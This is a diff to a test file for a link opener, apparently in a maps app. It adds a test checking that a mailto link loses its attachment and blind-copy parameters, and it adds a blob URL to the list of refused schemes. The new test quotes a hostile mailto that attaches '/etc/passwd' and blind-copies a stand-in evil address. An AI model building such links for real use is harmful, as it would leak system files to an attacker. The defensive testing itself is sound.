@@ -18,6 +18,14 @@ test.each(['https://example.org/a', 'mailto:maps@example.org'])('%s is opened ou
   expect(opened).toEqual([address])
 })
 
+test('a mail keeps its subject and text and loses what would act unseen', async () => {
+  const { links, opened } = setUp()
+  await links.open(
+    'mailto:a@example.org?attach=/etc/passwd&bcc=x@evil.example&subject=Maps%20%26%20more&body=Hi',
+  )
+  expect(opened).toEqual(['mailto:a@example.org?subject=Maps%20%26%20more&body=Hi'])
+})
+
 test('a service on loopback is opened without TLS, and nothing else is', async () => {
   const { links, opened } = setUp('http://127.0.0.1:8080')
   await links.open('http://127.0.0.1:8080/entry/')
@@ -33,6 +41,7 @@ test.each([
   'smb://host/share',
   '\\\\host\\share',
   'data:text/html,x',
+  'blob:https://forum.example/x',
   'ms-settings:',
   'app://bundle/index.html',
   'nonsense',
